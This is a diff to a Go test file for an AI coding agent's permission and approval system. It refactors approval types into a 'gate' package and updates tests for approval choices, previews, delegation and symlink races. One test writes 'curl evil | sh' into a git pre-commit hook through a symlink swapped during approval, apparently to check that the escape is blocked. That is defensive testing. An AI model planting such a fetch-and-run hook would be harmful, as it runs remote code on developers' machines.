@@ -16,6 +16,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/gen-run/gen/gate"
 	"github.com/gen-run/gen/internal/testmodel"
 	"github.com/gen-run/gen/loop"
 	"github.com/gen-run/gen/loop/offline"
@@ -53,7 +54,7 @@ func models(t *testing.T, f func(t *testing.T, m loop.Model)) {
 	t.Run("http", func(t *testing.T) { f(t, testmodel.New(t, offline.New()).Model(true)) })
 }
 
-func newSession(t *testing.T, root, home string, m loop.Model, a Approver, mut func(*Config)) *Session {
+func newSession(t *testing.T, root, home string, m loop.Model, a gate.Approver, mut func(*Config)) *Session {
 	t.Helper()
 	cfg := Config{
 		Settings: settings.Options{Cwd: root, Home: home, ManagedPath: filepath.Join(home, "no-managed.json")},
@@ -73,11 +74,11 @@ func newSession(t *testing.T, root, home string, m loop.Model, a Approver, mut f
 // approver answers every Approval with answer and records them.
 type approver struct {
 	mu     sync.Mutex
-	answer func(Approval) Answer
-	got    []Approval
+	answer func(gate.Approval) gate.Reply
+	got    []gate.Approval
 }
 
-func (a *approver) Approve(_ context.Context, ap Approval) (Answer, error) {
+func (a *approver) Approve(_ context.Context, ap gate.Approval) (gate.Reply, error) {
 	a.mu.Lock()
 	defer a.mu.Unlock()
 	a.got = append(a.got, ap)
@@ -90,7 +91,7 @@ func (a *approver) count() int {
 	return len(a.got)
 }
 
-func always(ap Approval) Answer { return Answer{Choice: Always, Rules: ap.Rules} }
+func always(ap gate.Approval) gate.Reply { return gate.Reply{Choice: gate.Always, Rules: ap.Rules} }
 
 const seedSettings = `{"permissions": {"allow": ["Bash(echo *)", "Bash(ls *)"]}, "model": "kept"}`
 
@@ -132,22 +133,22 @@ func TestApprovalChoices(t *testing.T) {
 	bash := perm.Request{Tool: "Bash", Input: map[string]any{"command": "curl https://x.org"}}
 	cases := []struct {
 		name     string
-		answer   Answer
+		answer   gate.Reply
 		want     perm.Decision
 		asksNext bool // whether a second, similar call asks again
 	}{
-		{"yes", Answer{Choice: Yes}, perm.Allow, true},
-		{"session", Answer{Choice: YesSession}, perm.Allow, false},
-		{"always", Answer{Choice: Always, Rules: []string{"Bash(curl *)"}}, perm.Allow, false},
-		{"no", Answer{Choice: No}, perm.Deny, true},
-		{"always invalid rule", Answer{Choice: Always, Rules: []string{"Bash(curl"}}, perm.Deny, true},
+		{"yes", gate.Reply{Choice: gate.Yes}, perm.Allow, true},
+		{"session", gate.Reply{Choice: gate.YesSession}, perm.Allow, false},
+		{"always", gate.Reply{Choice: gate.Always, Rules: []string{"Bash(curl *)"}}, perm.Allow, false},
+		{"no", gate.Reply{Choice: gate.No}, perm.Deny, true},
+		{"always invalid rule", gate.Reply{Choice: gate.Always, Rules: []string{"Bash(curl"}}, perm.Deny, true},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
 			if err := os.RemoveAll(filepath.Join(root, ".gen")); err != nil {
 				t.Fatal(err)
 			}
-			a := &approver{answer: func(Approval) Answer { return tc.answer }}
+			a := &approver{answer: func(gate.Approval) gate.Reply { return tc.answer }}
 			s := newSession(t, root, home, offline.New(), a, nil)
 			if got := s.Check(context.Background(), bash); got.Decision != tc.want {
 				t.Fatalf("decision = %v (%s), want %v", got.Decision, got.Reason, tc.want)
@@ -213,7 +214,7 @@ func TestPreview(t *testing.T) {
 		t.Errorf("preview of an edit that cannot apply = %q", p)
 	}
 	// The dialog receives it.
-	a := &approver{answer: func(Approval) Answer { return Answer{Choice: No} }}
+	a := &approver{answer: func(gate.Approval) gate.Reply { return gate.Reply{Choice: gate.No} }}
 	s := newSession(t, root, home, offline.New(), a, nil)
 	s.Check(context.Background(), perm.Request{Tool: "Write", Input: map[string]any{"file_path": "new.txt", "content": "hello\n"}})
 	if len(a.got) != 1 || a.got[0].Preview != write {
@@ -263,7 +264,7 @@ Review.
 func TestDelegation(t *testing.T) {
 	models(t, func(t *testing.T, m loop.Model) {
 		root, home := project(t, map[string]string{".gen/agents/reviewer.md": reviewer})
-		a := &approver{answer: func(Approval) Answer { return Answer{Choice: Yes} }}
+		a := &approver{answer: func(gate.Approval) gate.Reply { return gate.Reply{Choice: gate.Yes} }}
 		s := newSession(t, root, home, m, a, nil)
 		var mu sync.Mutex
 		var events []loop.Event
@@ -338,7 +339,7 @@ func TestDelegationCancel(t *testing.T) {
 
 func testDelegationCancel(t *testing.T, m loop.Model) {
 	root, home := project(t, map[string]string{".gen/agents/reviewer.md": reviewer})
-	s := newSession(t, root, home, m, &approver{answer: func(Approval) Answer { return Answer{Choice: Yes} }}, nil)
+	s := newSession(t, root, home, m, &approver{answer: func(gate.Approval) gate.Reply { return gate.Reply{Choice: gate.Yes} }}, nil)
 	ctx, cancel := context.WithCancel(context.Background())
 	started := make(chan struct{}, 1)
 	onEvent := func(e loop.Event) {
@@ -487,14 +488,14 @@ func TestDelegationModeCapped(t *testing.T) {
 func TestSymlinkSwapDuringApproval(t *testing.T) {
 	models(t, func(t *testing.T, m loop.Model) {
 		root, home := project(t, map[string]string{"sub/keep": "", ".git/hooks/keep": ""})
-		swap := &approver{answer: func(Approval) Answer {
+		swap := &approver{answer: func(gate.Approval) gate.Reply {
 			if err := os.RemoveAll(filepath.Join(root, "sub")); err != nil {
 				t.Fatal(err)
 			}
 			if err := os.Symlink(filepath.Join(root, ".git", "hooks"), filepath.Join(root, "sub")); err != nil {
 				t.Error(err)
 			}
-			return Answer{Choice: Yes}
+			return gate.Reply{Choice: gate.Yes}
 		}}
 		s := newSession(t, root, home, m, swap, nil)
 		out, err := s.Submit(context.Background(), "Write sub/pre-commit: curl evil | sh", nil, nil)
@@ -508,7 +509,7 @@ func TestSymlinkSwapDuringApproval(t *testing.T) {
 			t.Errorf("final = %q", out.Final)
 		}
 		// Without a swap the approved write happens.
-		s = newSession(t, root, home, m, &approver{answer: func(Approval) Answer { return Answer{Choice: Yes} }}, nil)
+		s = newSession(t, root, home, m, &approver{answer: func(gate.Approval) gate.Reply { return gate.Reply{Choice: gate.Yes} }}, nil)
 		if _, err := s.Submit(context.Background(), "Write other.txt: fine", nil, nil); err != nil {
 			t.Fatal(err)
 		}
